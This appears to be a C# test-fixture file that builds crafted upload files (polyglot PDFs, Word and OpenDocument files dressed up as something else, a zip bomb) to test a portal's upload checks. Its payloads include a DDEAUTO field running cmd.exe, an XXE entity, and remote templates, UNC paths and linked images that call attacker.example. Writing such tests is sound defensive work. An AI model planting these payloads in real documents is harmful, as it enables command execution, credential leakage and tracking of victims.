using System.Text;

namespace Portal.Testing;

/// Crafted uploads that pass a check by names or first bytes but are not what they seem (issue 13, finding 10): polyglots,
/// Word documents that fetch from outside themselves, and zips dressed as Word or OpenDocument files.
public static class HostileDocuments
{
    private const string W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private const string R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string WordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    /// Every crafted file with the name it is uploaded under.
    public static IReadOnlyList<(string Name, string FileName, Func<byte[]> Make)> All { get; } =
    [
        ("PDF/HTML polyglot", "report.pdf", PdfHtmlPolyglot),
        ("PDF with HTML after %%EOF", "report.pdf", PdfWithHtmlAfterEnd),
        ("PDF/zip polyglot", "report.pdf", PdfZipPolyglot),
        ("docx holding a PDF header", "report.docx", DocxPdfPolyglot),
        ("docx with a remote template", "report.docx", () => DocxRemoteTemplate("http://attacker.example/t.dotm")),
        ("docx with a UNC template", "report.docx", () => DocxRemoteTemplate("\\\\attacker.example\\share\\t.dotm")),
        ("docx with a linked picture", "report.docx", DocxLinkedPicture),
        ("docx with a file: hyperlink", "report.docx", () => DocxHyperlink("file:///C:/Windows/win.ini")),
        ("docx with an INCLUDEPICTURE field", "report.docx", () => DocxField(" INCLUDEPICTURE \"http://attacker.example/p.png\" \\d ")),
        ("docx with a DDEAUTO field", "report.docx", () => DocxField(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\" ")),
        ("zip with [Content_Types].xml and word/", "report.docx", FakeDocx),
        ("docx whose main part is missing", "report.docx", DocxMainMissing),
        ("macro-enabled document as .docx", "report.docx", Docm),
        ("docx with a DOCTYPE", "report.docx", DocxDoctype),
        ("odt without a manifest", "report.odt", OdtWithoutManifest),
        ("odt whose manifest is not text", "report.odt", OdtSpreadsheetManifest),
        ("odt with a linked picture", "report.odt", OdtLinkedPicture),
        ("docx of 3,000 parts", "report.docx", () => DocxWith(Enumerable.Range(0, 3_000).Select(i => ($"word/media/p{i}.bin", new byte[] { 1 })).ToArray())),
        ("docx zip bomb", "report.docx", DocxBomb),
    ];

    public static byte[] PdfHtmlPolyglot() => Encoding.ASCII.GetBytes(
        "%PDF-1.4\n%<html><body><script>alert(document.domain)</script></body></html>\n"
        + Encoding.ASCII.GetString(SampleDocuments.Pdf())["%PDF-1.4\n".Length..]);

    public static byte[] PdfWithHtmlAfterEnd() =>
        [.. SampleDocuments.Pdf(), .. Encoding.ASCII.GetBytes("<!DOCTYPE html><p>Hello</p>")];

    public static byte[] PdfZipPolyglot() => [.. SampleDocuments.Pdf(), .. SampleDocuments.Docx()];

    /// A .docx whose first part is stored unpacked and starts with a PDF header: a PDF reader takes the file as a PDF.
    public static byte[] DocxPdfPolyglot() => DocxWith(prepend: [("aaa.pdf", SampleDocuments.Pdf())], storedFirst: true);

    /// A real .docx whose settings attach a template from outside (TargetMode="External"): Word fetches it on opening.
    public static byte[] DocxRemoteTemplate(string target) => DocxWith(
        ("word/settings.xml", Utf8($"<w:settings xmlns:w=\"{W}\" xmlns:r=\"{R}\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>")),
        ("word/_rels/settings.xml.rels", Utf8(Rels($"<Relationship Id=\"rId1\" Type=\"{R}/attachedTemplate\" Target=\"{Escape(target)}\" TargetMode=\"External\"/>"))));

    public static byte[] DocxLinkedPicture() => DocxWith(("word/_rels/document.xml.rels",
        Utf8(Rels($"<Relationship Id=\"rId7\" Type=\"{R}/image\" Target=\"http://attacker.example/beacon.png\" TargetMode=\"External\"/>"))));

    public static byte[] DocxHyperlink(string target) => DocxWith(("word/_rels/document.xml.rels",
        Utf8(Rels($"<Relationship Id=\"rId8\" Type=\"{R}/hyperlink\" Target=\"{Escape(target)}\" TargetMode=\"External\"/>"))));

    public static byte[] DocxField(string instruction) => DocxWith(document:
        $"<w:document xmlns:w=\"{W}\"><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">{Escape(instruction)}</w:instrText></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>");

    /// What the old check took for a Word document: [Content_Types].xml and an entry under word/, nothing else.
    public static byte[] FakeDocx() => HostileSheets.Zip([("[Content_Types].xml", Utf8("<Types/>")), ("word/readme.txt", Utf8("hello"))]);

    public static byte[] DocxMainMissing() => HostileSheets.Zip(Parts(SampleDocuments.Docx()).Where(p => p.Name != "word/document.xml"));

    public static byte[] Docm() => HostileSheets.Zip(Parts(SampleDocuments.Docx()).Select(p => p.Name == "[Content_Types].xml"
        ? (p.Name, Utf8(Encoding.UTF8.GetString(p.Content).Replace(WordMain, "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal)))
        : p));

    public static byte[] DocxDoctype() => HostileSheets.Zip(Parts(SampleDocuments.Docx()).Select(p => p.Name == "[Content_Types].xml"
        ? (p.Name, Utf8("<?xml version=\"1.0\"?><!DOCTYPE Types [<!ENTITY x SYSTEM \"http://attacker.example/x\">]>" + Encoding.UTF8.GetString(p.Content)[38..]))
        : p));

    public static byte[] OdtWithoutManifest() => HostileSheets.Zip(Parts(SampleDocuments.Odt()).Where(p => p.Name != "META-INF/manifest.xml"));

    public static byte[] OdtSpreadsheetManifest() => HostileSheets.Zip(Parts(SampleDocuments.Odt()).Select(p => p.Name == "META-INF/manifest.xml"
        ? (p.Name, Utf8(Encoding.UTF8.GetString(p.Content).Replace("full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"",
            "full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.spreadsheet\"", StringComparison.Ordinal)))
        : p));

    public static byte[] OdtLinkedPicture() => HostileSheets.Zip(Parts(SampleDocuments.Odt()).Select(p => p.Name == "content.xml"
        ? (p.Name, Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
            + "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" "
            + "xmlns:xlink=\"http://www.w3.org/1999/xlink\"><office:body><office:text><text:p><draw:frame><draw:image xlink:href=\"http://attacker.example/beacon.png\"/>"
            + "</draw:frame></text:p></office:text></office:body></office:document-content>"))
        : p));

    /// A real .docx with a part that says it unpacks to a gigabyte.
    public static byte[] DocxBomb() => HostileSheets.DeclareSize(DocxWith(("word/padding.bin", new byte[1024 * 1024])), "word/padding.bin", 1u << 30);

    /// The sample .docx with parts added or replaced (same name), optionally a new main document and parts first.
    public static byte[] DocxWith(params (string Name, byte[] Content)[] parts) => DocxWith(parts, document: null);

    public static byte[] DocxWith((string Name, byte[] Content)[]? parts = null, string? document = null,
        (string Name, byte[] Content)[]? prepend = null, bool storedFirst = false)
    {
        var all = Parts(SampleDocuments.Docx()).ToList();
        foreach (var (name, content) in parts ?? [])
        {
            all.RemoveAll(p => p.Name == name);
            all.Add((name, content));
        }

        if (document is not null)
        {
            all = all.Select(p => p.Name == "word/document.xml" ? (p.Name, Utf8(document)) : p).ToList();
        }

        return HostileSheets.Zip([.. prepend ?? [], .. all], storeFirst: storedFirst);
    }

    private static List<(string Name, byte[] Content)> Parts(byte[] zip)
    {
        using var archive = new System.IO.Compression.ZipArchive(new MemoryStream(zip));
        return archive.Entries.Select(e =>
        {
            using var stream = e.Open();
            using var copy = new MemoryStream();
            stream.CopyTo(copy);
            return (e.FullName, copy.ToArray());
        }).ToList();
    }

    private static string Rels(string relationships) =>
        $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{relationships}</Relationships>";

    private static string Escape(string text) => System.Security.SecurityElement.Escape(text);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
}
